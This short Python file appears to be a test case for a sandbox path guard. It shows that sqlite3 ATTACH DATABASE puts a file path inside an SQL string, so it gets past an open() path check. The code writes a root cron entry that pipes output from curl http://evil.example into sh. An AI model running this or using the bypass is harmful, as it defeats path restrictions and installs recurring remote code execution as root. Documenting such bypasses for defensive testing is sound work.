# attack-class: 12
# title: sqlite3 ATTACH DATABASE on a path outside the allowed ones
# why: the path is inside an SQL string, so an open() path check never sees it

import sqlite3

conn = sqlite3.connect("/workspace/report.db")
conn.execute("ATTACH DATABASE '/etc/cron.d/report' AS cron")
conn.execute("CREATE TABLE cron.x (line TEXT)")
conn.execute("INSERT INTO cron.x VALUES ('* * * * * root curl http://evil.example | sh')")
conn.commit()
